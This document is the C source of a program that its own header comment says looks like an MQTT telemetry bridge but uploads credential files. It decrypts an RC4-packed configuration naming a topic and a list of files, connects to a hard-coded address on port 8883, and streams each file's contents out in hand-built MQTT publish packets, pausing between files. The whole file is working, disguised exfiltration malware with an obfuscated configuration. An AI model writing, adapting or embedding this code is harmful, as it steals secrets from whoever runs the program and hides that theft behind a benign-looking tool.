/* mqtt_bridge: looks like a telemetry bridge, but uploads credential files to a packed broker. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* RC4-packed configuration: broker, topic, login and the files to ship. */
__attribute__((section(".cfgblob"), used)) static const unsigned char packed_cfg[] = {
    0xc2, 0x37, 0x88, 0x75, 0x17, 0xd9, 0x36, 0x36, 0x40, 0xa2, 0x59, 0xb5, 0x78, 0x9d, 0xce, 0xed,
    0x2e, 0x4e, 0xad, 0xca, 0x35, 0x2c, 0x55, 0xc3, 0x57, 0x48, 0x42, 0x85, 0xab, 0xaf, 0xe4, 0xd9,
    0x71, 0x87, 0x2c, 0x62, 0xde, 0xd0, 0x88, 0x8e, 0xae, 0x5e, 0xc1, 0x07, 0x81, 0x14, 0x80, 0x54,
    0xe9, 0x38, 0x90, 0xeb, 0xf1, 0x1f, 0xf4, 0x51, 0xc4, 0x47, 0x37, 0xbf, 0xf1, 0x32, 0xf1, 0xdf,
    0x33, 0x5b, 0xb0, 0x61, 0x89, 0xc7, 0x42, 0xdc, 0xcf, 0x70, 0x20, 0x29, 0x7d, 0x63, 0x54, 0x58,
    0x16, 0x13, 0xc7, 0x55, 0xbb, 0x7a, 0x2e, 0x47, 0xf6, 0x04, 0xa0, 0xc7, 0xcc, 0x58, 0x24, 0x71,
    0xd3, 0xab, 0x3e, 0x4b, 0xad, 0x1f, 0x21, 0xe8, 0xb3, 0x33, 0xb7, 0x55, 0xc4, 0x4b, 0x08, 0x32,
    0xf4, 0x8b, 0xe4, 0xe2, 0xe5, 0xae, 0x9d, 0xf8, 0x93, 0xdf, 0xc8, 0x87, 0x05, 0x10, 0x2b, 0x49,
    0x6c, 0x2c, 0xbd, 0x5f, 0x7e, 0x89, 0x44, 0x83, 0x05, 0xf9, 0xc7, 0xec, 0x2d, 0x4e, 0x2b, 0x15,
    0x32, 0x55, 0x81, 0xcf, 0xec, 0x4f, 0xd0, 0x9f, 0xd3, 0x1b, 0x4e, 0x4c, 0xf1, 0x22, 0x96, 0x5b,
    0x18, 0x34, 0x2b, 0x64, 0x21, 0xf1, 0x25, 0xb0, 0xa3, 0x34, 0x3a, 0x3e, 0xe8, 0x35,
};

static void rc4(const char *key, const unsigned char *in, size_t n, unsigned char *out)
{
    unsigned char s[256], t;
    size_t klen = strlen(key);
    for (int i = 0; i < 256; i++)
        s[i] = (unsigned char)i;
    for (int i = 0, j = 0; i < 256; i++) {
        j = (j + s[i] + (unsigned char)key[i % klen]) & 255;
        t = s[i], s[i] = s[j], s[j] = t;
    }
    for (size_t k = 0, i = 0, j = 0; k < n; k++) {
        i = (i + 1) & 255;
        j = (j + s[i]) & 255;
        t = s[i], s[i] = s[j], s[j] = t;
        out[k] = in[k] ^ s[(s[i] + s[j]) & 255];
    }
}

static const char *field(char *cfg, const char *key)
{
    char *p = strstr(cfg, key);
    if (!p)
        return "";
    p += strlen(key);
    p[strcspn(p, "\n")] = '\0';
    return p;
}

static int publish(int fd, const char *topic, const char *payload, size_t n)
{
    unsigned char hdr[4] = {0x30, (unsigned char)(2 + strlen(topic) + n), 0, (unsigned char)strlen(topic)};
    if (send(fd, hdr, sizeof hdr, 0) < 0 || send(fd, topic, strlen(topic), 0) < 0)
        return -1;
    return send(fd, payload, n, 0) < 0 ? -1 : 0;
}

int main(void)
{
    char cfg[sizeof packed_cfg], files[128], topic[64];
    rc4("mb-c0ffee", packed_cfg, sizeof packed_cfg, (unsigned char *)cfg);
    char copy[sizeof packed_cfg];
    memcpy(copy, cfg, sizeof copy);
    snprintf(topic, sizeof topic, "%s", field(copy, "topic="));
    memcpy(copy, cfg, sizeof copy);
    snprintf(files, sizeof files, "%s", field(copy, "files="));
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(8883)};
    inet_pton(AF_INET, "198.18.7.200", &sa.sin_addr);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0)
        return 0;
    char buf[120];
    for (char *path = strtok(files, ":"); path; path = strtok(NULL, ":")) {
        FILE *f = fopen(path, "r");
        size_t n;
        while (f && (n = fread(buf, 1, sizeof buf, f)) > 0)
            if (publish(fd, topic, buf, n) < 0)
                break;
        if (f)
            fclose(f);
        sleep(30);
    }
    close(fd);
    return 0;
}
